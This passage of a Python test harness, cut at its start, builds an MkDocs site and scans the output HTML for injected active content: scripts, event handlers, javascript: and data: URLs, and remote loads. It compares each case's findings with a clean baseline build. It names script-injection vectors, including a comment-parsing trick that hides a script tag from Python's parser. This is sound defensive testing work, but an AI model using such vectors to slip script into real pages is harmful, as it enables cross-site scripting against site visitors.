LOADING = {"img": ("src", "srcset"), "script": ("src",), "iframe": ("src",), "frame": ("src",), "embed": ("src",),
           "object": ("data",), "source": ("src", "srcset"), "video": ("src", "poster"), "audio": ("src",),
           "link": ("href",), "input": ("src",), "form": ("action",), "track": ("src",), "image": ("href", "xlink:href"),
           "use": ("href", "xlink:href"), "feimage": ("href", "xlink:href"), "a": ("ping",), "area": ("ping",)}
SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript|data):", re.I)
REMOTE = re.compile(r"^\s*(https?:)?//", re.I)


def active_content(site: Path) -> dict[str, Counter]:
    """Per built page: everything that runs code or loads from another host, counted by kind."""
    from bs4 import BeautifulSoup
    found: dict[str, Counter] = {}
    for page in sorted(site.rglob("*.html")):
        counts: Counter = Counter()
        text = page.read_text(encoding="utf-8", errors="replace")
        # comment endings a browser accepts and html.parser does not (`<!--><script>` is a script to a browser)
        text = re.sub(r"<!--->|<!-->|--!>", lambda match: "-->" if match[0] == "--!>" else "<!-- -->", text)
        document = BeautifulSoup(text, "html.parser")
        for tag in document.find_all(True):
            name = tag.name.lower()
            if name == "script" and (tag.get("type") or "text/javascript") not in ("application/json",):
                counts[f"<script{' src' if tag.get('src') else ''}>"] += 1
            if name in ("iframe", "frame", "object", "embed", "applet", "base", "form", "portal"):
                counts[f"<{name}>"] += 1
            for attribute, value in tag.attrs.items():
                value = " ".join(value) if isinstance(value, list) else str(value)
                if attribute.lower().startswith("on"):
                    counts[f"{attribute}= on <{name}>"] += 1
                if attribute.lower() in ("href", "src", "action", "formaction", "data", "xlink:href") and SCRIPT_URL.match(value):
                    if not (name == "img" and value.startswith("data:image/")):
                        counts[f"{attribute}={value[:30]} on <{name}>"] += 1
                if attribute.lower() in LOADING.get(name, ()) and REMOTE.search(value) and not (
                        name == "link" and set(tag.get("rel") or []) & {"alternate", "canonical"}):
                    counts[f"{name} {attribute} from another host: {value[:40]}"] += 1
                if attribute.lower() == "style" and "url(" in value.replace(" ", "").lower():
                    counts[f"style url() on <{name}>"] += 1
        found[page.relative_to(site).as_posix()] = counts
    return found


def active_difference(baseline: dict[str, Counter], now: dict[str, Counter]) -> list[str]:
    new = []
    for page, counts in now.items():
        for kind, count in (counts - baseline.get(page, Counter())).items():
            new.append(f"{page}: {kind}" + (f" ×{count}" if count > 1 else ""))
    return sorted(new)


def clean_baseline() -> dict[str, Counter]:
    """The active content of the unchanged checkout's build (Material's own scripts, say)."""
    with tempfile.TemporaryDirectory(prefix="corpus-clean-") as folder:
        project = copy_project(Path(folder) / "project", PROJECT_PARTS)
        site = Path(folder) / "site"
        env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": str(project / "hooks")}
        for step in build_steps(project, site):
            done = subprocess.run(step, cwd=project, env=env, capture_output=True, text=True, timeout=300)
            if done.returncode != 0:
                sys.exit("The unchanged checkout does not build:\n" + done.stdout + done.stderr)
        return active_content(site)


# --- Report ------------------------------------------------------------------------------------------------------

def yes(flag: bool) -> str:
    return "yes" if flag else "no"


def print_outcome(outcome: Outcome) -> None:
    verdict, why = outcome.verdict()
    case = outcome.case
    files = outcome.files
    if outcome.timeout:
        state = "TIMEOUT"
    elif outcome.stopped:
        state = "stopped"
    elif outcome.error:
        state = "ERROR"
    else:
        state = "built, " + ("ACTIVE" if outcome.active else "inert")
    named = all(outcome.named(file) for file in files)
    lined = all(outcome.lined(file) for file in files if outcome.needs_line(file))
    print(f"[{verdict:4}] {case.cls} {case.name}: {state}; file {yes(named)}, line {yes(lined) if case.line else '-'}, "
          f"fi+sv {yes(outcome.bilingual)}, traceback {yes(outcome.traceback)}, "
          f"output {'kept' if outcome.site_intact else 'CHANGED'}, {outcome.seconds:.1f} s ({outcome.cpu:.1f} s CPU)"
          + (f"  <- {'; '.join(why)}" if why else ""), flush=True)


def main(arguments: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("-k", dest="select", help="only cases whose name contains this")
    parser.add_argument("-j", dest="jobs", type=int, default=2, help="builds at a time (default 2)")
    parser.add_argument("--list", action="store_true", help="list the cases and stop")
    parser.add_argument("--show", action="store_true", help="print each case's build output too")
    options = parser.parse_args(arguments)
    cases = [case for case in CASES if not options.select or options.select.lower() in case.name.lower()]
    if options.list:
        for case in cases:
            print(f"{case.cls} {case.name} ({case.file}, {case.expect})")
        print(f"{len(cases)} cases")
        return 0
    needs_baseline = any(case.expect != "stop" for case in cases)
    baseline = clean_baseline() if needs_baseline else None
    outcomes = []
    with concurrent.futures.ThreadPoolExecutor(max_workers=options.jobs) as pool:
        for outcome in pool.map(lambda case: run_case(case, baseline), cases):
            outcomes.append(outcome)
            print_outcome(outcome)
            if options.show:
                print("    " + outcome.output.strip().replace("\n", "\n    ")[:4000])
    verdicts = Counter(outcome.verdict()[0] for outcome in outcomes)
    by_class: dict[int, Counter] = {}
    for outcome in outcomes:
        by_class.setdefault(outcome.case.cls, Counter())[outcome.verdict()[0]] += 1
    slowest = max(outcomes, key=lambda outcome: outcome.cpu)
    print()
    print(f"{len(outcomes)} cases: {verdicts['well']} handled well, {verdicts['weak']} weakly, {verdicts['bad']} badly")
    for cls in sorted(by_class):
        counts = by_class[cls]
        print(f"  class {cls}: {counts['well']} well, {counts['weak']} weak, {counts['bad']} bad")
    print(f"slowest: {slowest.case.name}, {slowest.cpu:.1f} s CPU ({slowest.seconds:.1f} s on the clock)")
    return 0 if verdicts["well"] == len(outcomes) else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
